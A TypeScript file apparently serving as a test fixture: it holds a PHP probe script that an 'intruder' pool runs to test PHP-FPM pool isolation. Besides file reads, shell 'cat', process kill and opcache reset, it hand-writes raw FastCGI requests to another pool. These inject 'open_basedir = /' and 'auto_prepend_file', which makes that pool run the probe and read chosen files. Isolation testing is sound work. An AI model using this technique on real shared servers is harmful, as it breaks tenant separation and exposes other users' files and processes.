/**
 * The script that an intruder in pool b runs: it tries the one way that the request names (`PROBE`)
 * and writes what PHP or the kernel said. Its words are English: they are quoted as output.
 */
export const probe = `<?php
$said = null;
set_error_handler(function ($level, $message) use (&$said) { $said ??= $message; return true; });
$target = $_SERVER['TARGET'] ?? '';

/** The result, or the first error on the way to it. */
function result($value) {
  return is_string($value) ? $value : ($GLOBALS['said'] ?? var_export($value, true));
}

function size($length) {
  return $length < 128 ? chr($length) : pack('N', $length | 0x80000000);
}

function record($type, $content) {
  return pack('CCnnCC', 1, $type, 1, strlen($content), 0, 0) . $content;
}

/** A request written by hand (FastCGI 1.0, section 3.3), as whoever can connect may write it. */
function fastcgi($address, $params) {
  $socket = stream_socket_client('tcp://' . $address, $number, $message, 2);
  if (!$socket) return $message;
  $pairs = '';
  foreach ($params + ['REQUEST_METHOD' => 'GET', 'SCRIPT_NAME' => '/'] as $name => $value) {
    $pairs .= size(strlen($name)) . size(strlen($value)) . $name . $value;
  }
  fwrite($socket, record(1, pack('nCx5', 1, 0)) . record(4, $pairs) . record(4, '') . record(5, ''));
  $bytes = stream_get_contents($socket);
  $output = '';
  for ($at = 0; $at + 8 <= strlen($bytes); $at += 8 + $head['length'] + $head['padding']) {
    $head = unpack('Cversion/Ctype/nid/nlength/Cpadding', substr($bytes, $at, 7));
    if ($head['type'] === 6) $output .= substr($bytes, $at + 8, $head['length']);
  }
  return trim(substr($output, strpos($output, "\\r\\n\\r\\n")));
}

echo match ($_SERVER['PROBE']) {
  'read' => result(file_get_contents($target)),
  'first-line' => strtok(result(file_get_contents($target)), "\\n"),
  'shell' => strtok(shell_exec('cat ' . escapeshellarg($target) . ' 2>&1') ?? 'nothing', "\\n"),
  'open' => is_resource($file = fopen($target, 'r')) ? 'opened' : result(false),
  'list' => is_array($names = scandir($target)) ? implode(' ', $names) : result(false),
  'title' => trim(str_replace("\\0", ' ', result(file_get_contents($target)))),
  'kill' => posix_kill((int) $target, 15) ? 'sent' : posix_strerror(posix_get_last_error()),
  'connect' => stream_socket_client($target, $number, $message, 2) ? 'connected' : $message,
  'include' => (include $target) === false ? result(false) : 'read: ' . $secret,
  'scripts' => is_array($status = opcache_get_status())
    ? implode(' ', array_diff(array_keys($status['scripts']), [__FILE__])) ?: '—'
    : result(false),
  'reset' => opcache_reset() ? 'emptied' : result(false),
  'whoami' => 'running as ' . posix_getpwuid(posix_geteuid())['name'],
  'ini_set' => 'ini_set: ' . var_export(ini_set('memory_limit', '-1'), true)
    . ', memory_limit: ' . ini_get('memory_limit'),
  // From here on the other pool runs what this one chooses.
  'run-there' => fastcgi($target, ['SCRIPT_FILENAME' => __FILE__, 'PROBE' => 'whoami']),
  'read-there' => fastcgi($target, [
    'SCRIPT_FILENAME' => $_SERVER['PAGE'],
    $_SERVER['SETTING'] => "open_basedir = /\\nauto_prepend_file = " . __FILE__,
    'PROBE' => $_SERVER['THERE'],
    'TARGET' => $_SERVER['WANTED'],
  ]),
};
exit;
`;
